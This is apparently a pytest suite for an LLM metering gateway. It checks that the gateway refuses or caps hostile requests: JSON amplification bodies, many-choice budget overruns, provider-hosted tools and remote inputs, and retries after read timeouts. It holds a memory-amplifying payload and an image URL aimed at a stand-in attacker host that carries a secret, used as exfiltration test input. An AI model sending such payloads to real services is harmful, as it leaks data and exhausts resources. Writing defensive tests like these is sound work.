"""Hostile requests against the gateway's parse, budgets and retries (security review findings
2-4): JSON amplification, choices and uncapped output against budgets, provider-hosted tools,
read timeouts after the request was sent. Unit level where possible; each gateway case < 2 s."""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import aiohttp
import pytest
from aiohttp import web
from test_gateway import serve

from agentmeter.agents.base import AgentContext
from agentmeter.agents.registry import make_agent
from agentmeter.gateway import Budget, Gateway, ModelRegistry, RetryPolicy, UpstreamModel, hosted
from agentmeter.gateway.call import DEFAULT_OUTPUT_RESERVE, Call, upstream_body, worst_case
from agentmeter.gateway.metering import ScriptedContext, TrialState
from agentmeter.gateway.sse import MAX_REQUEST_TOKENS, TooLarge, request_object
from agentmeter.pricing import PriceBook
from agentmeter.records import WireApi

CHAT = "/v1/chat/completions"
#: a body of empty objects: ~1.5 GB of the runner's memory per 32 MiB before the cap
AMPLIFIER = b'{"model":"m","messages":[' + b"{}," * (MAX_REQUEST_TOKENS + 10) + b"{}]}"


# -- finding 2: JSON amplification ------------------------------------------------------------
def test_a_body_of_many_tiny_values_is_refused_unparsed() -> None:
    refused = request_object(AMPLIFIER)
    assert isinstance(refused, TooLarge) and "structural tokens" in refused
    numbers = b'{"messages":[{"role":"user","content":"x"}],"n":[' + b"0," * MAX_REQUEST_TOKENS \
        + b"0]}"
    assert isinstance(request_object(numbers), TooLarge)
    # UTF-16, whose escaped quote \" the byte scan would take for a string's end: refused
    hidden = '{"a":"\\"", "m":[' + "{}," * MAX_REQUEST_TOKENS + '{}]}'
    assert isinstance(json.loads(hidden.encode("utf-16")), dict)
    assert isinstance(request_object(hidden.encode("utf-16")), TooLarge)


def test_commas_and_brackets_inside_strings_do_not_count() -> None:
    """Code full of commas, brackets and escaped quotes (the real text of a big request) is
    parsed: only the structure outside strings counts."""
    text = 'f(a, b), [x] {y} "q", \\ ' * (MAX_REQUEST_TOKENS // 3)
    raw = json.dumps({"messages": [{"role": "user", "content": text}]}).encode()
    assert raw.count(b",") + raw.count(b"[") + raw.count(b"{") > MAX_REQUEST_TOKENS
    body = request_object(raw)
    assert isinstance(body, dict) and body["messages"][0]["content"] == text


async def test_the_gateway_answers_413_to_an_amplifying_body() -> None:
    gw = Gateway(ModelRegistry({}), PriceBook())
    await gw.start(port=0)
    try:
        token = gw.open_trial("t", "scripted/explorer")
        async with aiohttp.ClientSession() as s, s.post(
                gw.base_url + CHAT, data=AMPLIFIER, headers={
                    "Authorization": f"Bearer {token}", "Content-Type": "application/json"}) as r:
            assert r.status == 413
            assert "structural tokens" in (await r.json())["error"]["message"]
        assert gw.close_trial("t").calls == []
    finally:
        await gw.stop()


class _CopyingSandbox:
    """copy_out writes a transcript folder: one amplifying file, one ordinary."""

    async def copy_out(self, src: str, dst: Path, max_bytes: int | None = None) -> list[str]:
        dst.mkdir(parents=True, exist_ok=True)
        (dst / "big.jsonl").write_bytes(b'{"a":[' + b"{}," * 1_000_010 + b"{}]}\n")
        (dst / "small.jsonl").write_bytes(b'{"type":"result"}\n')
        return []


async def test_a_transcript_of_many_tiny_values_is_kept_not_parsed(tmp_path: Path) -> None:
    agent = make_agent("claude-code")
    ctx = AgentContext(task=None, sandbox=_CopyingSandbox(), timeout_s=60,  # type: ignore[arg-type]
                       logs_dir=tmp_path)
    notes: list[str] = []
    artifacts: dict[str, tuple[Path, str]] = {}
    texts = await agent._collect(ctx, {"home": "/home/agent"}, artifacts, notes)  # type: ignore[attr-defined]
    assert [p for p in texts if p.endswith("small.jsonl")] and \
        not [p for p in texts if p.endswith("big.jsonl")]
    assert any("big.jsonl not parsed" in n for n in notes)
    assert any(name.endswith("big.jsonl") for name in artifacts)  # kept as an artifact


# -- finding 3: budgets -----------------------------------------------------------------------
def _call(api: WireApi, body: dict[str, Any], budget: Budget | None = None,
          base_url: str = "http://127.0.0.1:1/v1", wire: WireApi | None = None) -> Call:
    model = UpstreamModel(name="up/m", base_url=base_url, wire_api=wire or api,
                          price_key="scripted/x")
    trial = TrialState("t", "tok", model, budget or Budget(max_tokens=10**6), ScriptedContext(),
                       priced=True)
    return Call(trial, api, wire or api, body, len(json.dumps(body)))


@pytest.mark.parametrize(("api", "body", "answers"), [
    ("chat", {"n": 128, "max_tokens": 1000}, 128),
    ("gemini", {"generationConfig": {"candidateCount": 8, "maxOutputTokens": 1000}}, 8),
    ("gemini", {"generation_config": {"candidate_count": 8, "max_output_tokens": 1000}}, 8),
    ("chat", {"n": 1, "max_tokens": 1000}, 1),
])
def test_the_worst_case_counts_every_answer_asked_for(api: WireApi, body: dict[str, Any],
                                                      answers: int) -> None:
    call = _call(api, body)
    assert worst_case(call, PriceBook()).tokens == call.bytes_in + 1000 * answers


@pytest.mark.parametrize(("api", "body", "output"), [
    # proto3 JSON (Gemini) and pydantic's lax mode (vLLM, compatible servers) take a number
    # written as a string or as an integral float; a provider honours whichever spelling it
    # reads: the reservation is the largest of them (security review 2, finding 1)
    ("gemini", {"generationConfig": {"candidateCount": "8", "maxOutputTokens": 1000}}, 8000),
    ("gemini", {"generationConfig": {"candidateCount": 8.0, "maxOutputTokens": 1000}}, 8000),
    ("gemini", {"generationConfig": {"max_output_tokens": 10, "maxOutputTokens": "6000"}}, 6000),
    ("gemini", {"generationConfig": {"maxOutputTokens": 10},
                "generation_config": {"maxOutputTokens": 6000, "candidateCount": 8}}, 48000),
    ("chat", {"n": "128", "max_tokens": 1000}, 128000),
    ("chat", {"n": 128.0, "max_tokens": "1000"}, 128000),
    ("chat", {"max_completion_tokens": 10, "max_tokens": 6000}, 6000),
    ("chat", {"n": "many", "max_tokens": float("inf")}, DEFAULT_OUTPUT_RESERVE),
])
def test_the_worst_case_reads_every_spelling_a_provider_accepts(
        api: WireApi, body: dict[str, Any], output: int) -> None:
    call = _call(api, body)
    assert worst_case(call, PriceBook()).tokens == call.bytes_in + output


@pytest.mark.parametrize(("api", "wire", "base_url", "where"), [
    ("chat", "chat", "http://127.0.0.1:1/v1", ("max_tokens",)),
    ("chat", "chat", "https://api.openai.com/v1", ("max_completion_tokens",)),
    ("responses", "responses", "http://127.0.0.1:1/v1", ("max_output_tokens",)),
    ("messages", "messages", "http://127.0.0.1:1/v1", ("max_tokens",)),
    ("gemini", "gemini", "http://127.0.0.1:1/v1", ("generationConfig", "maxOutputTokens")),
    ("responses", "chat", "http://127.0.0.1:1/v1", ("max_tokens",)),  # translated
])
def test_an_uncapped_request_is_sent_upstream_with_the_reserve_as_its_cap(
        api: WireApi, wire: WireApi, base_url: str, where: tuple[str, ...]) -> None:
    body: dict[str, Any] = {"gemini": {"contents": [{"role": "user", "parts": [{"text": "hi"}]}]},
                            "responses": {"input": "hi"}}.get(
        api, {"messages": [{"role": "user", "content": "hi"}]})
    sent, _ = upstream_body(_call(api, body, base_url=base_url, wire=wire))
    value: Any = sent
    for key in where:
        value = value[key]
    assert value == DEFAULT_OUTPUT_RESERVE
    unbudgeted, _ = upstream_body(_call(api, body, Budget(), base_url=base_url, wire=wire))
    assert where[0] not in unbudgeted  # no budget: the request goes as the client wrote it


class Recorder:
    """A chat upstream recording what it was sent; answers each choice with its whole cap."""

    def __init__(self, delay: float = 0.2, headers_first: bool = False) -> None:
        self.seen: list[dict[str, Any]] = []
        self.delay, self.headers_first = delay, headers_first

    async def handle(self, request: web.Request) -> web.StreamResponse:
        body = await request.json()
        self.seen.append(body)
        n, cap = body.get("n", 1), body.get("max_tokens") or 10
        answer = json.dumps({
            "id": "c", "object": "chat.completion", "created": 0, "model": "m",
            "choices": [{"index": i, "finish_reason": "length",
                         "message": {"role": "assistant", "content": "x"}} for i in range(n)],
            "usage": {"prompt_tokens": 10, "completion_tokens": n * cap,
                      "total_tokens": 10 + n * cap}}).encode()
        if self.headers_first:  # the reply's headers at once, its body after the delay
            resp = web.StreamResponse(headers={"Content-Type": "application/json"})
            await resp.prepare(request)
            await asyncio.sleep(self.delay)
            await resp.write(answer)
            return resp
        await asyncio.sleep(self.delay)
        return web.Response(body=answer, content_type="application/json")


@pytest.fixture
async def recorder() -> AsyncIterator[tuple[Recorder, int]]:
    rec = Recorder()
    app = web.Application()
    app.router.add_post(CHAT, rec.handle)
    runner, port = await serve(app)
    yield rec, port
    await runner.cleanup()


async def _gateway(port: int, retry: RetryPolicy | None = None) -> Gateway:
    gw = Gateway(ModelRegistry({"up/m": UpstreamModel(
        name="up/m", base_url=f"http://127.0.0.1:{port}/v1", wire_api="chat",
        price_key="scripted/x")}), PriceBook(), retry=retry)
    await gw.start(port=0)
    return gw


async def _post(gw: Gateway, token: str, body: dict[str, Any]) -> tuple[int, dict[str, Any]]:
    async with aiohttp.ClientSession() as s, s.post(
            gw.base_url + CHAT, json={"model": "up/m", **body},
            headers={"Authorization": f"Bearer {token}"}) as r:
        return r.status, await r.json()


HI = [{"role": "user", "content": "hi"}]


async def test_concurrent_calls_asking_many_choices_do_not_overrun_the_budget(
        recorder: tuple[Recorder, int]) -> None:
    """The review's attack: 16 calls at once, n=128, max_tokens=1000, a 20,000-token budget.
    Each call's worst case is 128,000 tokens: none is served (review 2: the one served alone
    overran the budget 6.4 times; a lone call over what is left is served only when it asks
    one answer). Calls asking several answers that fit are served."""
    rec, port = recorder
    gw = await _gateway(port)
    try:
        token = gw.open_trial("t", "up/m", budget=Budget(max_tokens=20_000))
        got = await asyncio.gather(*(_post(gw, token, {"messages": HI, "n": 128,
                                                       "max_tokens": 1000}) for _ in range(16)))
        assert sorted(status for status, _ in got) == [429] * 16
        assert "asks for 128 answers" in json.dumps(got[0][1])
        assert not rec.seen
        status, _ = await _post(gw, token, {"messages": HI, "n": 4, "max_tokens": 1000})
        assert status == 200 and rec.seen[-1]["n"] == 4  # it fits: served
        status, _ = await _post(gw, token, {"messages": HI, "max_tokens": 30_000})
        assert status == 200  # one answer: served alone though over what is left
        meter = gw.close_trial("t")
        assert meter.budget_exceeded and len(rec.seen) == 2
        assert meter.charged_tokens == 10 + 4 * 1000 + 10 + 30_000  # never 128 answers
    finally:
        await gw.stop()


async def test_hosted_tools_and_stored_inputs_are_refused_or_dropped(
        recorder: tuple[Recorder, int]) -> None:
    rec, port = recorder
    gw = await _gateway(port)
    try:
        token = gw.open_trial("t", "up/m", budget=Budget(max_calls=5))
        status, answer = await _post(gw, token, {"messages": HI, "max_tokens": 5,
                                                 "web_search_options": {}})
        assert status == 400 and "web_search_options" in answer["error"]["message"]
        assert rec.seen == []
        function = {"type": "function", "function": {"name": "bash", "parameters": {}}}
        status, _ = await _post(gw, token, {"messages": HI, "max_tokens": 5, "tools": [
            function, {"type": "web_search_preview"}]})
        assert status == 200 and rec.seen[-1]["tools"] == [function]
        meter = gw.close_trial("t")
        refused, served = meter.calls
        assert refused.status_code == 400 and refused.error == "request_refused: web_search_options"
        assert served.status_code == 200 and meter.charged_tokens == served.usage.total
        allowed = gw.open_trial("t2", "up/m", hosted_tools=True)  # a task with the internet
        status, _ = await _post(gw, allowed, {"messages": HI, "max_tokens": 5,
                                              "web_search_options": {}})
        assert status == 200 and rec.seen[-1]["web_search_options"] == {}
        # review 2: an image URL the provider fetches (an exfiltration channel; input tokens
        # its bytes do not bound) is refused without internet, a data: URL is not
        leak = [{"role": "user", "content": [{"type": "image_url", "image_url": {
            "url": "https://attacker.example/x.png?secret=1"}}]}]
        token = gw.open_trial("t3", "up/m")
        seen = len(rec.seen)
        status, answer = await _post(gw, token, {"messages": leak, "max_tokens": 5})
        assert status == 400 and "image_url.url" in answer["error"]["message"]
        assert len(rec.seen) == seen
        inline = [{"role": "user", "content": [{"type": "image_url", "image_url": {
            "url": "data:image/png;base64,iVBORw0KGgo="}}]}]
        status, _ = await _post(gw, token, {"messages": inline, "max_tokens": 5})
        assert status == 200
        status, _ = await _post(gw, allowed, {"messages": leak, "max_tokens": 5})
        assert status == 200
        # review 3: with the internet but a token or USD budget, remote media are refused
        # (their input tokens, a YouTube fileUri's ~1M, are not bounded by the reservation)
        budgeted = gw.open_trial("t4", "up/m", hosted_tools=True, budget=Budget(max_tokens=10**6))
        seen = len(rec.seen)
        status, answer = await _post(gw, budgeted, {"messages": leak, "max_tokens": 5})
        assert status == 400 and "token or USD budget" in answer["error"]["message"]
        assert len(rec.seen) == seen
        status, _ = await _post(gw, budgeted, {"messages": inline, "max_tokens": 5})
        assert status == 200
    finally:
        await gw.stop()


async def test_refusals_beyond_the_cap_are_answered_not_recorded(
        recorder: tuple[Recorder, int], monkeypatch: pytest.MonkeyPatch) -> None:
    """Security review 2: every refused request was a call record (memory and store), and
    refusals never stop the agent: a loop of them grew without bound."""
    from agentmeter.gateway import calls

    monkeypatch.setattr(calls, "MAX_RECORDED_REFUSALS", 2, raising=False)
    rec, port = recorder
    gw = await _gateway(port)
    try:
        token = gw.open_trial("t", "up/m")
        got = [await _post(gw, token, {"messages": HI, "max_tokens": 5, "plugins": [{}]})
               for _ in range(4)]
        assert [status for status, _ in got] == [400] * 4 and not rec.seen
        meter = gw.close_trial("t")
        assert len(meter.calls) == 2 and meter.refused == 4
    finally:
        await gw.stop()
    # security review 3: the count reaches the trial's record (the cap hid the rest)
    from types import SimpleNamespace

    from agentmeter.runner.trial import TrialRunner

    trial = SimpleNamespace(rec=SimpleNamespace(extra={}, try_number=0), _late=frozenset(),
                            ctx=SimpleNamespace(run_id="r", store=SimpleNamespace(
                                add_model_calls=lambda *a, **k: None)))
    TrialRunner._apply_meter(trial, meter)  # type: ignore[arg-type]
    assert trial.rec.extra["requests_refused"] == 4


@pytest.mark.parametrize(("api", "body", "field"), [
    ("responses", {"input": "hi", "previous_response_id": "resp_1"}, "previous_response_id"),
    ("responses", {"input": "hi", "background": True}, "background"),
    ("messages", {"messages": HI, "mcp_servers": [{"url": "u"}]}, "mcp_servers"),
    ("chat", {"messages": HI, "plugins": [{"id": "web"}]}, "plugins"),
    ("responses", {"input": "hi", "background": False}, None),
])
def test_hosted_fields_per_api(api: WireApi, body: dict[str, Any], field: str | None) -> None:
    assert hosted.hosted_field(api, body) == field


@pytest.mark.parametrize(("body", "found"), [
    ({"messages": [{"role": "user", "content": [{"type": "image_url", "image_url": {
        "url": "https://a.example/i.png"}}]}]}, "image_url.url"),
    ({"messages": [{"role": "user", "content": [{"type": "file", "file": {"file_id": "f"}}]}]},
     "file.file_id"),
    ({"input": [{"role": "user", "content": [{"type": "input_image",
                                              "image_url": "https://a.example/i.png"}]}]},
     "input_image.url"),
    ({"input": [{"role": "user", "content": [{"type": "input_file", "file_id": "f"}]}]},
     "input_file.file_id"),
    ({"messages": [{"role": "user", "content": [{"type": "tool_result", "content": [
        {"type": "image", "source": {"type": "url", "url": "https://a.example/i"}}]}]}]},
     "image.source.url"),
    ({"contents": [{"parts": [{"file_data": {"file_uri": "https://youtube.com/watch?v=x"}}]}]},
     "fileData.fileUri"),
    ({"contents": [{"parts": [{"text": "see"}, {"fileData": {  # no "type" in Gemini's parts
        "fileUri": "https://youtube.com/watch?v=x"}}]}]}, "fileData.fileUri"),
    ({"messages": [{"role": "user", "content": [{"type": "image_url", "image_url": {
        "url": "data:image/png;base64,AAAA"}}, {"type": "image", "source": {
            "type": "base64", "data": "AAAA"}}]}],
      "tools": [{"type": "function", "function": {"name": "f", "parameters": {
          "type": "object", "properties": {"image_url": {"type": "string"},
                                           "file_id": {"type": "string"}}}}}]}, None),
])
def test_remote_inputs_are_found_in_every_api(body: dict[str, Any], found: str | None) -> None:
    assert hosted.remote_input(body) == found


@pytest.mark.parametrize(("api", "tools", "kept"), [
    ("responses", [{"type": "function", "name": "f"}, {"type": "local_shell"},
                   {"type": "web_search"}, {"type": "mcp", "server_url": "u"}],
     [{"type": "function", "name": "f"}, {"type": "local_shell"}]),
    ("messages", [{"name": "Bash", "input_schema": {}}, {"type": "bash_20250124", "name": "bash"},
                  {"type": "web_search_20250305", "name": "web_search"},
                  {"type": "web_fetch_20250910", "name": "web_fetch"},
                  {"type": "code_execution_20250825", "name": "x"}],
     [{"name": "Bash", "input_schema": {}}, {"type": "bash_20250124", "name": "bash"}]),
    ("gemini", [{"functionDeclarations": [{"name": "f"}], "googleSearch": {}},
                {"urlContext": {}}, {"code_execution": {}}],
     [{"functionDeclarations": [{"name": "f"}]}]),
    ("gemini", [{"googleSearch": {}}], None),
])
def test_provider_run_tools_are_dropped_client_tools_kept(
        api: WireApi, tools: list[dict[str, Any]], kept: list[dict[str, Any]] | None) -> None:
    out, dropped = hosted.without_hosted_tools(api, {"tools": tools, "tool_choice": "auto"})
    assert dropped and out.get("tools") == kept
    assert ("tool_choice" in out) == (kept is not None)


# -- finding 4: a read timeout after the request was sent -----------------------------------
@pytest.mark.parametrize("headers_first", [False, True], ids=["no-reply", "body-late"])
async def test_a_read_timeout_is_not_retried_is_charged_and_is_the_calls_failure(
        headers_first: bool) -> None:
    rec = Recorder(delay=0.6, headers_first=headers_first)
    app = web.Application()
    app.router.add_post(CHAT, rec.handle)
    runner, port = await serve(app)
    gw = await _gateway(port, RetryPolicy(max_retries=3, base_delay=0.01, read_timeout=0.3))
    try:
        token = gw.open_trial("t", "up/m", budget=Budget(max_tokens=100_000))
        status, answer = await _post(gw, token, {"messages": HI, "max_tokens": 5000})
        assert status == 504 and "read timeout" in answer["error"]["message"]
        meter = gw.close_trial("t")
        assert len(rec.seen) == 1  # sent once: never regenerated (and billed) again
        assert meter.infra_error is None  # the agent's call failed, not the infrastructure
        (call,) = meter.calls
        assert call.status_code == 504 and "not retried" in (call.error or "")
        assert meter.charged_tokens == call.bytes_in + 5000  # its reservation
    finally:
        await gw.stop()
        await runner.cleanup()
